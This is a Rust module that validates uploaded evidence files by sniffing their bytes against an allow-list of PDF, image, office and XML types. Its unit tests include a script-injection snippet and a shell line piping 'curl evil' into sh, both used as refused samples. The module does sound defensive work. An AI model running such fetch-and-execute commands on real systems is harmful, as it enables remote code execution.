//! What may be stored as evidence: a document of 1 byte to the configured limit whose
//! first bytes say it is one of `ACCEPTED` (the client's `Content-Type` is not trusted).
//! Pure.

/// Media types accepted as evidence, as the `infer` crate names them: documents and scans
/// (PDF, PNG, JPEG, TIFF, WebP), office files (OOXML and OpenDocument text and
/// spreadsheets) and XML (ISO 20022 bank statements and advices). HTML, scripts and
/// executables are refused: a download must never become active content.
pub const ACCEPTED: [&str; 10] = [
    "application/pdf",
    "image/png",
    "image/jpeg",
    "image/tiff",
    "image/webp",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "application/vnd.oasis.opendocument.text",
    "application/vnd.oasis.opendocument.spreadsheet",
    "text/xml",
];

/// Why a document is refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Refusal {
    Empty,
    /// Sniffed as this media type, which is not accepted (`None`: not recognised).
    Unsupported(Option<String>),
}

/// The media type of `bytes`, if it is an accepted one.
pub fn media_type(bytes: &[u8]) -> Result<&'static str, Refusal> {
    if bytes.is_empty() {
        return Err(Refusal::Empty);
    }
    match infer::get(bytes) {
        Some(t) if ACCEPTED.contains(&t.mime_type()) => Ok(t.mime_type()),
        Some(t) => Err(Refusal::Unsupported(Some(t.mime_type().to_owned()))),
        None => Err(Refusal::Unsupported(None)),
    }
}

/// The usual file extension of an accepted media type (for download file names).
pub fn extension(media_type: &str) -> &'static str {
    match media_type {
        "application/pdf" => "pdf",
        "image/png" => "png",
        "image/jpeg" => "jpg",
        "image/tiff" => "tif",
        "image/webp" => "webp",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document" => "docx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" => "xlsx",
        "application/vnd.oasis.opendocument.text" => "odt",
        "application/vnd.oasis.opendocument.spreadsheet" => "ods",
        "text/xml" => "xml",
        _ => "bin",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_type_is_read_from_the_bytes() {
        assert_eq!(
            media_type(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"),
            Ok("application/pdf")
        );
        assert_eq!(
            media_type(&[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13]),
            Ok("image/png")
        );
        assert_eq!(
            media_type(&[0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, b'J', b'F', b'I', b'F']),
            Ok("image/jpeg")
        );
        assert_eq!(
            media_type(b"<?xml version=\"1.0\"?><Document/>"),
            Ok("text/xml")
        );
        assert_eq!(media_type(b""), Err(Refusal::Empty));
        assert_eq!(
            media_type(b"<html><script>alert(1)</script></html>"),
            Err(Refusal::Unsupported(Some("text/html".to_owned())))
        );
        assert_eq!(
            media_type(b"#!/bin/sh\ncurl evil | sh\n"),
            Err(Refusal::Unsupported(Some("text/x-shellscript".to_owned())))
        );
        assert_eq!(
            media_type(b"just some text"),
            Err(Refusal::Unsupported(None))
        );
        for t in ACCEPTED {
            assert_ne!(extension(t), "bin", "{t}");
        }
    }
}
